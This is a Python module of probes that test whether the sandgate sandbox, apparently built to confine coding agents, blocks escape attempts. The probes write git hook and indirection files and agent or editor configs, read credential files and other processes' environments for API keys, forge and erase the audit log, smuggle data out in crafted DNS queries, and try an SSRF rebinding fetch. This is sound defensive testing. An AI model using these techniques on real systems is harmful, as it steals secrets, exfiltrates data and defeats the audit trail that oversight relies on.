"""The v1-review probes of `sandgate verify`: git indirection, editor/agent configs, secrets the
name patterns missed, credential files, and a forgeable audit log (threat model, "found in sandgate v1").

Registered into launcher.probes.REGISTRY (probes.py imports this module at its end), run like
every probe (command, grandchild, setsid daemon). Stdlib only, like probes.py.

The last part (Staged) is run OUTSIDE by verify: it stages the targets (credential files in the
fake home, secrets in sandgate's environment, the audit log inside the workspace) and reads the
host back after each pass, so a blocked row is judged by the probe AND by what the host shows
(a git indirection file or editor config created or changed, a forged or damaged audit log).

dns_smuggling hides data in a query's other parts (an additional record, an EDNS option, an
UPDATE, a second question, the letter case of an allowed name); the world's DNS canary logs all
of them (launcher/canary.py), so verify finds the marker there, or the mixed case (case_name).

wildcard_dns_types asks for TXT, NULL and MX under verify's `*.wild.verify.test` allow (refused by
the sandbox's resolver: the DNS canary must never see the name); rebind_own_address fetches an
allowed name that resolves to an address the world (the proxy host) holds outside 198.51.100.0/24.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import struct
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from launcher.probes import (
    DNS_TIMEOUT,
    QTYPE_A,
    QTYPE_TXT,
    Blocked,
    Ctx,
    DnsMessage,
    Result,
    Unsupported,
    _git_dir,
    _http_verdict,
    _tag,
    attempt,
    build_query,
    combine,
    encode_name,
    fetch,
    parse_message,
    probe,
    system_resolver,
    try_append,
)

GIT_TIMEOUT = 15.0
#: Inside `.git`: through these git finds config, hooks or code elsewhere (v1: commondir).
GIT_TARGETS = (
    "commondir",
    "modules/x/hooks/pre-commit",
    "config.worktree",
    "info/attributes",
    "objects/info/alternates",
)
#: Workspace files an editor or agent runs code from when the user next opens the folder.
TOOL_TARGETS = (".vscode/settings.json", ".envrc", ".mcp.json", ".claude/settings.json")
#: Secret names v1's patterns missed, and a lower-case one; DATABASE_URL carries it in a URL.
ENV_SECRETS = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "PGPASSWORD", "MYSQL_PWD", "DATABASE_URL", "openai_api_key")
PLAIN_ENV = "SANDGATE_VERIFY_PLAIN"
CRED_FILES = (".npmrc", ".pypirc", ".git-credentials")
HOME_CONTROL = "verify-notes.txt"
AUDIT_NAME = "audit-verify.jsonl"  # inside the workspace (not under the protected .sandgate/)


def _write_into(path: Path, data: bytes) -> Result:
    """Create or append to `path` (its directories too); a placeholder directory in its way is removed first."""
    path.parent.mkdir(parents=True, exist_ok=True)
    try:
        return try_append(path, data, create=True)
    except IsADirectoryError:
        os.rmdir(path)  # sandgate's read-only placeholder for a missing file: a mount point, EBUSY
        return try_append(path, data, create=True)


# --------------------------------------------------------------------------- filesystem probes


def _commit(c: Ctx) -> Result:
    name = f"verify-commit-{_tag(c)}.txt"
    Path(name).write_text(f"committed from {c.mark}\n")
    msg = f"verify commit {c.mark}"
    for args in (["add", "--", name], ["commit", "-q", "-m", msg, "--", name], ["log", "-1", "--format=%s"]):
        r = subprocess.run(
            ["git", "-c", "safe.directory=*", "-c", "commit.gpgsign=false", *args],
            capture_output=True,
            text=True,
            timeout=GIT_TIMEOUT,
            stdin=subprocess.DEVNULL,
        )
        if r.returncode != 0:
            return "blocked", f"git {args[0]} failed: {(r.stderr or r.stdout).strip()[:200]}"
    if r.stdout.strip() != msg:
        raise Unsupported(f"git log shows {r.stdout.strip()!r}, not our commit")
    return "permitted", f"git add + commit of {name} worked"


@probe("filesystem", "git_commit", "permitted")
def git_commit(c: Ctx) -> Result:
    """Control: `git add` and `git commit` work in the workspace repository despite the .git protection."""
    _git_dir()
    return _commit(c)


@probe("filesystem", "git_indirection", "blocked")
def git_indirection(c: Ctx) -> Result:
    """Writing the files through which git finds config, hooks or objects elsewhere (commondir, modules/, config.worktree, info/, alternates)."""
    git, line = _git_dir(), b"# " + c.marker
    return combine([(t, attempt(_write_into, git / t, line)) for t in GIT_TARGETS], need="any")


@probe("filesystem", "tool_configs", "blocked")
def tool_configs(c: Ctx) -> Result:
    """Editor and agent configs in the workspace (.vscode, .envrc, .mcp.json, .claude) that run code when the user opens it."""
    line = b"// " + c.marker
    return combine([(t, attempt(_write_into, Path(t), line)) for t in TOOL_TARGETS], need="any")


@probe("filesystem", "credential_files", "blocked")
def credential_files(c: Ctx) -> Result:
    """Reading registry and git credentials in the home (~/.npmrc, ~/.pypirc, ~/.git-credentials)."""
    home, secret = Path(c.s("home")), c.s("cred_marker")
    control = home / HOME_CONTROL
    try:
        if c.s("home_control") not in control.read_text(errors="replace"):
            raise Unsupported(f"{control} is readable but without its text: cannot tell")
    except OSError as e:
        raise Unsupported(f"the control file {control} is not readable here, cannot tell: {e}") from e
    parts = []
    for name in CRED_FILES:
        path = home / name
        try:
            data = path.read_text(errors="replace")
        except FileNotFoundError:
            parts.append((name, ("blocked", "does not exist here (hidden)")))
            continue
        except OSError as e:
            parts.append((name, attempt(_raise, e)))
            continue
        parts.append(
            (
                name,
                ("permitted", "read the secret")
                if secret in data
                else ("blocked", f"readable but without the secret ({len(data)} chars)"),
            )
        )
    return combine(parts, need="any")


def _raise(e: BaseException) -> Result:
    raise e


@probe("filesystem", "env_secret_names", "blocked")
def env_secret_names(c: Ctx) -> Result:
    """Secrets under names v1 missed (OPENAI_API_KEY, PGPASSWORD, MYSQL_PWD, DATABASE_URL with a password, lower case)."""
    secret, plain = c.s("env_marker").encode(), c.s("plain_env").encode()
    if plain not in Path("/proc/self/environ").read_bytes():
        raise Unsupported(f"the control variable {PLAIN_ENV} is missing from /proc/self/environ: cannot tell")
    names = [k for k, v in os.environ.items() if c.s("env_marker") in v]
    if names:
        return "permitted", f"set here: {', '.join(sorted(names))}"
    holders, readable = [], 0
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            data = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        readable += 1
        if secret in data:
            holders.append(pid)
    if holders:
        return "permitted", f"a secret is in the environment of pid(s) {', '.join(sorted(holders, key=int))}"
    return "blocked", f"none of {', '.join(ENV_SECRETS)} here; {readable} environ files, none holds a secret"


def _truncate(path: str) -> Result:
    os.truncate(path, 0)
    return "permitted", f"truncated {path}"


def _rename(path: str, mark: str) -> Result:
    os.rename(path, f"{path}.moved-{mark}")  # left moved: verify sees the log gone
    return "permitted", f"renamed {path} away"


def _remove(path: str) -> Result:
    os.unlink(path)
    return "permitted", f"removed {path}"


@probe("filesystem", "audit_log_forge", "blocked")
def audit_log_forge(c: Ctx) -> Result:
    """Forging or erasing the run's own audit log, here kept inside the workspace: append, truncate, rename, remove."""
    log = c.s("audit_log")
    if not os.path.isfile(log):
        raise Unsupported(f"the audit log {log} is not visible here: cannot tell")
    forged = json.dumps({"event": "decision", "verdict": "allow", "forged": c.marker.decode().strip()}) + "\n"
    return combine(
        [
            ("append", attempt(try_append, log, forged.encode(), create=False)),
            ("truncate", attempt(_truncate, log)),
            ("rename", attempt(_rename, log, c.mark)),
            ("remove", attempt(_remove, log)),
        ],
        need="any",
    )


# ----------------------------------------------------------------------------- dns smuggling

QTYPE_SOA, QTYPE_OPT, OPT_CODE, CLASS_IN = 6, 41, 65001, 1  # 65001: a local/experimental EDNS option


def case_name(name: str, mark: str) -> str:
    """`name` in a letter case spelled from `mark` (never all lower): how verify recognises it upstream."""
    bits = int.from_bytes(hashlib.sha256(mark.encode()).digest(), "big") | 1
    out = [ch.upper() if ch.isalpha() and (bits >> i) & 1 else ch for i, ch in enumerate(name)]
    return "".join(out)


def _rr(name: str, rtype: int, rclass: int, ttl: int, rdata: bytes) -> bytes:
    owner = b"\0" if name == "." else encode_name(name)
    return owner + struct.pack("!HHIH", rtype, rclass, ttl, len(rdata)) + rdata


def _txt(text: bytes) -> bytes:
    return bytes([len(text[:255])]) + text[:255]


def _message(flags: int, questions: list[tuple[str, int]], ns: bytes = b"", ar: bytes = b"", counts=(0, 0)) -> bytes:
    """A hand-built message (id 0, set by _send): questions, then ns (authority) and ar (additional) RRs."""
    head = struct.pack("!HHHHHH", 0, flags, len(questions), 0, *counts)
    return head + b"".join(encode_name(n) + struct.pack("!HH", t, CLASS_IN) for n, t in questions) + ns + ar


def _send(server: str, wire: bytes) -> DnsMessage:
    """One UDP exchange with a fresh id; the reply to it (TimeoutError if none)."""
    qid = int.from_bytes(os.urandom(2), "big")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((server, 53))
        s.send(struct.pack("!H", qid) + wire[2:])
        deadline = time.monotonic() + DNS_TIMEOUT
        while (left := deadline - time.monotonic()) > 0:
            s.settimeout(left)
            try:
                reply = parse_message(s.recv(4096))
            except ValueError:
                continue
            if reply.id == qid and reply.is_response:
                return reply
    raise TimeoutError(f"no DNS reply from {server}:53 within {DNS_TIMEOUT:g} s")


def _smuggle(server: str, wire: bytes, accepted: str = "") -> Result:
    """The carrier is stripped or refused by a sound resolver whatever it answers (verify reads the
    canary for the marker); only `accepted` (a message it must refuse, answered NOERROR) is a bypass here."""
    try:
        reply = _send(server, wire)
    except TimeoutError as e:
        raise Blocked(str(e)) from e
    detail = f"rcode {reply.rcode_text}, {len(reply.answers)} answer(s)"
    if accepted and reply.rcode == 0:
        return "permitted", f"{detail}: {accepted}"
    return "blocked", detail


@probe("network", "dns_smuggling", "blocked")
def dns_smuggling(c: Ctx) -> Result:
    """Data hidden beside an allowed DNS name: an additional record, an EDNS option, an UPDATE, a second question, letter case."""
    server, host, rd = system_resolver(), c.s("allowed_host"), 0x0100
    control = _send(server, build_query(host))
    if c.s("allowed_ip") not in [r.data for r in control.answers]:
        raise Unsupported(
            f"the control (A {host}) was not answered from the canary: rcode {control.rcode_text}, "
            f"{[r.data for r in control.answers]}: cannot tell"
        )
    smuggled = c.dns_name()  # <probe>-<mark>.<exfil domain>: what the canary log is searched for
    q = [(host, QTYPE_A)]
    additional = _message(rd, q, ar=_rr(smuggled, QTYPE_TXT, CLASS_IN, 0, _txt(c.marker)), counts=(0, 1))
    option = struct.pack("!HH", OPT_CODE, len(c.marker)) + c.marker
    edns = _message(rd, q, ar=_rr(".", QTYPE_OPT, 1232, 0, option), counts=(0, 1))
    update = _message(
        5 << 11,
        [(host, QTYPE_SOA)],
        counts=(1, 0),
        ns=_rr(f"{c.label}.{host}", QTYPE_TXT, CLASS_IN, 60, _txt(c.marker)),
    )
    two = _message(rd, [*q, (smuggled, QTYPE_A)])
    case = build_query(case_name(host, c.mark))
    return combine(
        [
            ("additional TXT", attempt(_smuggle, server, additional)),
            ("EDNS option", attempt(_smuggle, server, edns)),
            ("UPDATE", attempt(_smuggle, server, update, "UPDATE accepted")),
            ("two questions", attempt(_smuggle, server, two)),
            ("mixed case", attempt(_smuggle, server, case)),
        ],
        need="any",
    )


# ------------------------------------------------- wildcard DNS types, own-address rebinding

QTYPE_NULL, QTYPE_MX, RCODE_REFUSED = 10, 15, 5
WILD_TYPES = (("TXT", QTYPE_TXT), ("NULL", QTYPE_NULL), ("MX", QTYPE_MX))


def wild_control_name(label: str, wild_domain: str) -> str:
    """The control name of wildcard_dns_types: `<label>-a.<wild domain>` (not the marker `<label>.`)."""
    return f"{label}-a.{wild_domain}"


def _typed_query(server: str, name: str, qtype: int) -> Result:
    """REFUSED is the sandbox's resolver saying no; any other answer means the query went upstream."""
    try:
        reply = _send(server, build_query(name, qtype))
    except TimeoutError as e:
        raise Blocked(str(e)) from e
    detail = f"rcode {reply.rcode_text}, {len(reply.answers)} answer(s)"
    return ("blocked" if reply.rcode == RCODE_REFUSED else "permitted"), detail


@probe("network", "wildcard_dns_types", "blocked")
def wildcard_dns_types(c: Ctx) -> Result:
    """TXT, NULL and MX queries for a name allowed only by a wildcard rule: a DNS tunnel to whoever runs that domain."""
    server, wild = system_resolver(), c.s("wild_domain")
    control = wild_control_name(c.label, wild)
    try:
        reply = _send(server, build_query(control))
    except TimeoutError as e:
        raise Unsupported(f"the control (A {control}) got no answer: {e}: cannot tell") from e
    if c.s("wild_ip") not in [r.data for r in reply.answers]:
        raise Unsupported(
            f"the control (A {control}) was not answered from the canary: rcode {reply.rcode_text}, "
            f"{[r.data for r in reply.answers]}: cannot tell"
        )
    name = f"{c.label}.{wild}"  # what the canary log is searched for
    return combine([(t, attempt(_typed_query, server, name, q)) for t, q in WILD_TYPES], need="any")


def _fetch_verdict(url: str, c: Ctx, env_proxy: bool) -> Result:
    return _http_verdict(*fetch(url, c.spec, env_proxy=env_proxy))


@probe("network", "rebind_own_address", "blocked")
def rebind_own_address(c: Ctx) -> Result:
    """An allowed name resolving to an address the proxy host holds itself (not loopback): SSRF into its own services."""
    url = c.url("http", c.s("rebind_own_host"))
    return combine(
        [
            ("explicit proxy", attempt(_fetch_verdict, url, c, True)),
            ("transparent", attempt(_fetch_verdict, url, c, False)),
        ],
        need="any",
    )


# ------------------------------------------------ the outside halves: run by verify, never inside


def _state(path: Path) -> str:
    """What a path is on the host: missing, a directory (with its entries), or a file (its digest)."""
    if not os.path.lexists(path):
        return "missing"
    if path.is_symlink():
        return f"symlink to {os.readlink(path)}"
    if path.is_dir():
        return f"directory {sorted(os.listdir(path))}"
    return f"file sha256:{hashlib.sha256(path.read_bytes()).hexdigest()[:16]}"


@dataclass
class Staged:
    """What verify stages for one pass before the run, and reads back after it."""

    ws: Path
    home: Path
    token: str
    before: dict[str, dict[Path, str]]

    @classmethod
    def stage(cls, ws: Path, home: Path, token: str, uid: int, gid: int) -> Staged:
        cred = f"sgcred{token}"
        (home / ".npmrc").write_text(f"//registry.npmjs.org/:_authToken={cred}\n")
        (home / ".pypirc").write_text(f"[pypi]\nusername = __token__\npassword = {cred}\n")
        (home / ".git-credentials").write_text(f"https://verify:{cred}@git.verify.test\n")
        (home / HOME_CONTROL).write_text(f"plain-{token}\n")
        audit = ws / AUDIT_NAME
        audit.touch()  # the pass's own file (only sandgate, never its mode, may keep the command out)
        for path in (*(home / n for n in (*CRED_FILES, HOME_CONTROL)), audit):
            os.lchown(path, uid, gid)
            path.chmod(0o644)
        before = {
            "git_indirection": {ws / ".git" / t: "" for t in GIT_TARGETS},
            "tool_configs": {ws / t: "" for t in TOOL_TARGETS},
        }
        for paths in before.values():
            for path in paths:
                paths[path] = _state(path)
        return cls(ws, home, token, before)

    @property
    def audit_log(self) -> Path:
        return self.ws / AUDIT_NAME

    def spec(self) -> dict[str, Any]:
        return {
            "cred_marker": f"sgcred{self.token}",
            "home_control": f"plain-{self.token}",
            "env_marker": f"sgenv{self.token}",
            "plain_env": f"{PLAIN_ENV}=plain-{self.token}",
            "audit_log": str(self.audit_log),
        }

    def env(self) -> dict[str, str]:
        secret = f"sgenv{self.token}"
        env = {name: f"{secret}-{name.lower()}" for name in ENV_SECRETS}
        env["DATABASE_URL"] = f"postgres://u:{secret}@h/db"
        return {**env, PLAIN_ENV: f"plain-{self.token}"}

    def controls(self) -> None:
        """Outside, the credential files hold the secret: so a clean read inside is the sandbox's doing."""
        for name in CRED_FILES:
            if f"sgcred{self.token}" not in (self.home / name).read_text():
                raise OSError(f"{self.home / name} does not hold the secret outside")

    def evidence(self) -> dict[tuple[str, str], str]:
        """{(probe, "*"): what the host shows} after one pass; empty if the host is untouched."""
        found: dict[tuple[str, str], str] = {}
        for probe_name, paths in self.before.items():
            changed = [
                f"{p.relative_to(self.ws)}: {was} -> {now}" for p, was in paths.items() if (now := _state(p)) != was
            ]
            if changed:
                found[probe_name, "*"] = "; ".join(changed)
        if why := self._audit_damage():
            found["audit_log_forge", "*"] = why
        return found

    def _audit_damage(self) -> str:
        log = self.audit_log
        moved = sorted(p.name for p in self.ws.glob(f"{AUDIT_NAME}.moved-*"))
        if moved:
            return f"the audit log was renamed: {', '.join(moved)}"
        if not log.is_file():
            return f"the audit log {log.name} is gone"
        lines = log.read_text(errors="replace").splitlines()
        if not lines:
            return "the audit log is empty (truncated)"
        for n, line in enumerate(lines, 1):
            try:
                rec = json.loads(line)
            except ValueError:
                return f"line {n} of the audit log does not parse: {line[:120]!r}"
            if n == 1 and rec.get("event") != "policy":
                return f"the audit log no longer starts with the run's policy record: {line[:120]!r}"
            if ":audit_log_forge" in line or "forged" in rec:
                return f"line {n} of the audit log was forged: {line[:160]!r}"
        return ""
